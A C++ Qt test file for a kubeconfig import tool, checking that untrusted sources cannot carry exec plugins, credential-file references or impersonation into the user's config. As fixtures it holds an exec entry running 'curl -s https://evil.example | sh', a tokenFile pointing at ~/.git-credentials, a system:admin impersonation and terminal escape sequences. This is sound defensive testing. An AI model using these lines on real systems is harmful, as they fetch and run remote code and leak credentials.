#include "clirunner.h"
#include "kubeconfig/kubeconfigdocument.h"
#include "kubeconfigbuilder.h"
#include "testenvironment.h"
#include "testpki.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QSettings>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>
#include <sys/stat.h>
#include <thread>

using namespace kubeminder;
using namespace kubeminder::test;

namespace {

QString str(const char *utf8)
{
    return QString::fromUtf8(utf8);
}

enum class Delivery { LocalFile, StandardInput, Pipe, Command };

} // namespace

Q_DECLARE_METATYPE(Delivery)

/// What may cross from a source into the user's kubeconfig, through `kubeminder import` with real
/// files, standard input and a pipe: every refusal leaves every file of the user byte-identical.
class TestImportTrust : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void guardedSources_data();
    void guardedSources();
    void namesAreFilteredForTheTerminal();
    void namesKubectlReadsAsStrings();
    void quotedWordsInTheSourceStayText();

private:
    RunResult run(const QStringList &arguments, const QByteArray &standardInput = {})
    {
        return runCli(arguments, {.home = home(),
                                  .backupDirectory = backups(),
                                  .now = fixedNow(),
                                  .standardInput = standardInput});
    }
    QString home() const { return m_dir.filePath(str("home")); }
    QString backups() const { return m_dir.filePath(str("backups")); }
    QString kubeconfig() const { return home() + str("/.kube/config"); }
    QString writeUserConfig();
    // A K3s-like source whose user body is `userBody` ("%1": K3s's certificate and key).
    QByteArray sourceText(const QString &userBody, const QString &userName = str("default")) const;
    RunResult importVia(Delivery delivery, const QByteArray &source, QStringList arguments);

    QTemporaryDir m_dir;
    IssuedCertificate m_fresh;
};

void TestImportTrust::initTestCase()
{
    setUpTestEnvironment();
    QVERIFY(m_dir.isValid());
    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, m_dir.filePath(str("settings")));
    m_fresh = TestPki::leafExpiringIn(fixedNow(), 365);
}

void TestImportTrust::init()
{
    QDir(home()).removeRecursively();
    QDir(backups()).removeRecursively();
    QSettings().clear();
}

// ~/.kube/config with a working context "homelab" (a certificate 40 days from its end).
QString TestImportTrust::writeUserConfig()
{
    KubeconfigBuilder builder;
    builder.cluster(str("homelab"), str("https://pi.lan:6443"), TestPki::sharedCa().certificatePem)
        .certificateUser(str("homelab"), TestPki::leafExpiringIn(fixedNow(), 40))
        .context(str("homelab"), str("homelab"), str("homelab"))
        .currentContext(str("homelab"));
    return builder.writeTo(kubeconfig());
}

QByteArray TestImportTrust::sourceText(const QString &userBody, const QString &userName) const
{
    const QString certificate = str("client-certificate-data: %1\n    client-key-data: %2")
                                    .arg(QString::fromLatin1(m_fresh.certificatePem.toBase64()),
                                         QString::fromLatin1(m_fresh.privateKeyPem.toBase64()));
    const QString body = userBody.contains(QLatin1String("%1")) ? userBody.arg(certificate) : userBody;
    return str(R"(apiVersion: v1
kind: Config
clusters:
- name: default
  cluster:
    server: https://127.0.0.1:6443
    certificate-authority-data: %1
users:
- name: "%3"
  user:
    %2
contexts:
- name: default
  context:
    cluster: default
    user: "%3"
current-context: default
)")
        .arg(QString::fromLatin1(TestPki::sharedCa().certificatePem.toBase64()), body, userName)
        .toUtf8();
}

RunResult TestImportTrust::importVia(Delivery delivery, const QByteArray &source, QStringList arguments)
{
    switch (delivery) {
    case Delivery::LocalFile:
        return run(QStringList{str("import"), writeFile(m_dir.filePath(str("source/k3s.yaml")), source)} +
                   arguments);
    case Delivery::StandardInput:
        return run(QStringList{str("import"), str("-")} + arguments, source);
    case Delivery::Command: {
        // cmd: runs a program here that prints the kubeconfig (kind get kubeconfig, ...).
        const QString printed = writeFile(m_dir.filePath(str("source/printed.yaml")), source);
        const QString program = m_dir.filePath(str("print-kubeconfig"));
        writeFile(program, "#!/bin/sh\nexec cat \"$1\"\n");
        QFile(program).setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        return run(QStringList{str("import"), str("cmd:%1 %2").arg(program, printed)} + arguments);
    }
    case Delivery::Pipe:
        break;
    }
    const QString pipe = m_dir.filePath(str("pipe"));
    QFile::remove(pipe);
    if (mkfifo(QFile::encodeName(pipe).constData(), 0600) != 0)
        return {};
    std::thread writer([&] {
        QFile out(pipe);
        if (out.open(QIODevice::WriteOnly | QIODevice::Unbuffered))
            out.write(source);
    });
    RunResult result = run(QStringList{str("import"), pipe} + arguments);
    writer.join();
    return result;
}

void TestImportTrust::guardedSources_data()
{
    QTest::addColumn<Delivery>("delivery");
    QTest::addColumn<QString>("userBody");
    QTest::addColumn<bool>("allowExec");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QStringList>("errorSays");
    QTest::addColumn<bool>("written");

    const QString exec =
        str("exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n"
            "      args: [-c, \"curl -s https://evil.example | sh\"]\n      interactiveMode: Never");
    const QString tokenFile = str("tokenFile: ~/.git-credentials");
    const QString token = str("token: ") + QString::fromLatin1(TestPki::jwt(fixedNow().addDays(90)));

    QTest::newRow("exec from a local file, no yes")
        << Delivery::LocalFile << exec << false << 1 << QStringList{str("--allow-exec")} << false;
    QTest::newRow("exec from a local file, --allow-exec")
        << Delivery::LocalFile << exec << true << 0 << QStringList{} << true;
    QTest::newRow("exec from standard input, even with --allow-exec")
        << Delivery::StandardInput << exec << true << 1
        << QStringList{str("only credentials may cross"), str("exec"), str("/bin/sh -c")} << false;
    QTest::newRow("exec from a pipe") << Delivery::Pipe << exec << false << 1
                                      << QStringList{str("only credentials may cross"), str("exec")} << false;
    QTest::newRow("tokenFile from standard input")
        << Delivery::StandardInput << tokenFile << true << 1
        << QStringList{str("tokenFile ~/.git-credentials"), str("send the contents of this file")} << false;
    QTest::newRow("impersonation from a pipe")
        << Delivery::Pipe << str("%1\n    as: system:admin") << false << 1
        << QStringList{str("as system:admin"), str("impersonation")} << false;
    QTest::newRow("certificate becomes a token, no yes")
        << Delivery::LocalFile << token << false << 1
        << QStringList{str("credential kind"), str("--allow-exec")} << false;
    QTest::newRow("certificate becomes a token, --allow-exec")
        << Delivery::LocalFile << token << true << 0 << QStringList{} << true;
    QTest::newRow("certificate becomes a token from standard input, --allow-exec")
        << Delivery::StandardInput << token << true << 0 << QStringList{} << true;
    // What a command prints is not a file the person wrote: only credentials cross.
    QTest::newRow("exec printed by a command, even with --allow-exec")
        << Delivery::Command << exec << true << 1
        << QStringList{str("only credentials may cross"), str("exec"), str("/bin/sh -c")} << false;
    QTest::newRow("only credentials printed by a command")
        << Delivery::Command << str("%1") << false << 0 << QStringList{} << true;
    QTest::newRow("only credentials from standard input")
        << Delivery::StandardInput << str("%1") << false << 0 << QStringList{} << true;
}

void TestImportTrust::guardedSources()
{
    QFETCH(Delivery, delivery);
    QFETCH(QString, userBody);
    QFETCH(bool, allowExec);
    QFETCH(int, exitCode);
    QFETCH(QStringList, errorSays);
    QFETCH(bool, written);

    const QString file = writeUserConfig();
    const QByteArray before = readFile(file);
    QStringList arguments{str("--name"), str("homelab")};
    if (allowExec)
        arguments << str("--allow-exec");
    const RunResult result = importVia(delivery, sourceText(userBody), arguments);
    QVERIFY2(result.exitCode == exitCode, qPrintable(result.err + result.out));
    const QString said = result.err + result.out;
    for (const QString &text : errorSays)
        QVERIFY2(said.contains(text), qPrintable(said));
    if (written) {
        QVERIFY(readFile(file) != before);
        QCOMPARE(QDir(backups()).entryList(QDir::Files | QDir::NoDotAndDotDot).isEmpty(), false);
        return;
    }
    QCOMPARE(readFile(file), before);
    QCOMPARE(QDir(backups()).entryList({str("*.yaml"), str("*config*")}, QDir::Files), QStringList());
    QVERIFY(!QFile::exists(home() + str("/.git-credentials")));
}

void TestImportTrust::namesAreFilteredForTheTerminal()
{
    // A user name that would retitle and clear the terminal; it is named in the "not copied" and
    // refusal lines, which must reach the terminal harmless.
    writeUserConfig();
    const QString hostile = str("\\e]0;pwned\\a\\e[2J");
    for (const bool allowExec : {false, true}) {
        QStringList arguments{str("--name"), str("homelab"), str("--dry-run")};
        if (allowExec)
            arguments << str("--allow-exec");
        const QByteArray source = sourceText(str("%1\n    x-vendor: 1\n    as: \"\\e[31mroot\""), hostile);
        for (const Delivery delivery : {Delivery::LocalFile, Delivery::StandardInput}) {
            const RunResult result = importVia(delivery, source, arguments);
            const QString said = result.err + result.out;
            QVERIFY2(!said.contains(QChar(0x1b)) && !said.contains(QChar(0x07)),
                     said.toUtf8().toPercentEncoding().constData());
            QVERIFY2(said.contains(str("pwned")), qPrintable(said));
        }
    }
}

void TestImportTrust::namesKubectlReadsAsStrings()
{
    // Names that YAML would read as a number, a boolean, null, a date or a sexagesimal: written
    // quoted, so kubectl loads the file and lists each name, and `use` switches to each.
    const QString kubectl = QStandardPaths::findExecutable(str("kubectl"));
    if (kubectl.isEmpty())
        QSKIP("kubectl is not installed: it is the oracle here.");
    // And names holding a character YAML 1.1 takes for a line break (U+2028, U+2029, NEL), which
    // kubectl's reader ends an unquoted line at.
    const QStringList names{
        str("0x1F"),  str("010"),        str("yes"),      str("on"),       str("true"),
        str("null"),  str("~"),          str("1e3"),      str("0o17"),     str(".inf"),
        str("1_000"), str("2026-01-01"), str("12:30"),    str("<<"),       str("="),
        str("y"),     str("Off"),        str("+12"),      str("08"),       str(".5"),
        str("-.Inf"), str("0b101"),      str("a\u2028b"), str("a\u2029b"), str("a\u00a0b")};
    writeUserConfig();
    const QByteArray source = sourceText(str("%1"));
    for (const QString &name : names) {
        const RunResult result =
            importVia(Delivery::LocalFile, source, {str("--name"), name, str("--set-current")});
        QVERIFY2(result.exitCode == 0, qPrintable(name + QLatin1Char(' ') + result.err + result.out));
    }
    QProcess process;
    process.start(kubectl, {str("config"), str("get-contexts"), str("-o"), str("name"), str("--kubeconfig"),
                            kubeconfig()});
    QVERIFY(process.waitForFinished(30000));
    QVERIFY2(process.exitCode() == 0, process.readAllStandardError().constData());
    QStringList listed =
        QString::fromUtf8(process.readAllStandardOutput()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    listed.sort();
    QStringList expected = names + QStringList{str("homelab")};
    expected.sort();
    QCOMPARE(listed, expected);
    for (const QString &name : names) {
        const RunResult used = run({str("use"), str("--"), name}); // "--": a name may start with "-"
        QVERIFY2(used.exitCode == 0, qPrintable(name + QLatin1Char(' ') + used.err + used.out));
        process.start(kubectl, {str("config"), str("current-context"), str("--kubeconfig"), kubeconfig()});
        QVERIFY(process.waitForFinished(30000));
        QCOMPARE(QString::fromUtf8(process.readAllStandardOutput()).trimmed(), name);
    }
}

void TestImportTrust::quotedWordsInTheSourceStayText()
{
    // A source whose names are YAML 1.1 words and whose token is all digits, quoted as they must be:
    // the filtered source is written and read back on the way, and must stay text (not a boolean
    // and a number, which the loader refuses as kubectl does).
    writeUserConfig();
    const QByteArray source = "apiVersion: v1\nkind: Config\nclusters:\n- name: \"yes\"\n  cluster:\n"
                              "    server: https://127.0.0.1:6443\nusers:\n- name: \"on\"\n  user:\n"
                              "    token: \"0123456789\"\ncontexts:\n- name: \"010\"\n"
                              "  context: {cluster: \"yes\", user: \"on\"}\ncurrent-context: \"010\"\n";
    const RunResult result = importVia(Delivery::LocalFile, source, {str("--name"), str("lab")});
    QVERIFY2(result.exitCode == 0, qPrintable(result.err + result.out));
    const KubeconfigDocument written = KubeconfigDocument::load(kubeconfig());
    QVERIFY2(written.status() == KubeconfigDocument::Status::Ok, qPrintable(written.error()));
    const auto user = std::find_if(written.users().begin(), written.users().end(),
                                   [](const UserEntry &u) { return u.token == "0123456789"; });
    QVERIFY(user != written.users().end());
    const auto context = std::find_if(written.contexts().begin(), written.contexts().end(),
                                      [&](const ContextEntry &c) { return c.user == user->name; });
    QVERIFY(context != written.contexts().end());
}

QTEST_GUILESS_MAIN(TestImportTrust)
#include "tst_importtrust.moc"
